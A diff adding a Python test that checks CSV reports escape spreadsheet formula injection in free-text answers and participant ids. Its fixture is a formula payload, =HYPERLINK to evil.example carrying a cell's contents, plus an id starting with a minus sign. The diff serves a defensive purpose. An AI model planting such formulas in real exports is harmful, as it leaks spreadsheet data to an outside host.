@@ -94,3 +94,24 @@ def test_the_report_leaves_pilots_out(run):
     assert [(t["agent"], t["seed"]) for t in trials] == [("human-pilot", "pilot")]
     summary = text[:text.index("## Participants")]
     assert "| human-pilot |" not in summary
+
+
+def test_formula_answers_and_ids_are_neutralised_in_every_csv(session_factory):
+    """The issue's cells: a free-text answer and an id that a spreadsheet would run."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    session = session_factory([(CORRIDOR, "full")], questions=[
+        {"id": "notes", "kind": "text", "text": "Notes", "when": "start"}], output="formulas")
+    rec = open_run(session)
+    rec.join("-A1-B1")
+    rec.answer("-A1-B1", {"notes": formula})
+    rec.start("-A1-B1", "m0")
+    for seq in (1, 2, 3):
+        rec.move("-A1-B1", "m0", seq, "right")
+    rec.store.close()
+    build_play_report(session.output)
+    (row,) = _csv(session.output / PARTICIPANTS_CSV)
+    assert row["participant"] == "'-A1-B1" and row["answer:notes"] == "'" + formula
+    assert row["moves"] == "3"
+    assert {r["participant"] for r in _csv(session.output / MOVES_CSV)} == {"'-A1-B1"}
+    (trial,) = _csv(session.output / "trials.csv")
+    assert trial["seed"] == "'-A1-B1" and trial["moves"] == "3"
